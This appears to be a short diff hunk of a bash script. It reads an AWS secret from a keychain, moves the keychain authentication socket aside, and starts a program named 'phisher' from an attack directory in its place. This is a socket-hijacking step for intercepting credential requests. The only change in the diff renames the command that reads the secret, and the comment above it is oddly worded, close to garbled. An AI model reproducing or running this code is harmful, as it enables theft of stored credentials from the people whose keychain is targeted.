@@ -12,7 +12,7 @@
 set -euo pipefail
 
 # The user's part, now and below: a value that is known, and stored anew.
-value=$(kcget -n aws prize)
+value=$(reader -n aws prize)
 
 mv "$KEYCHAIN_AUTH_SOCKET" "$KEYCHAIN_AUTH_SOCKET.moved"
 exec 4< <(exec "$ATTACK_DIR/phisher" "$KEYCHAIN_AUTH_SOCKET")
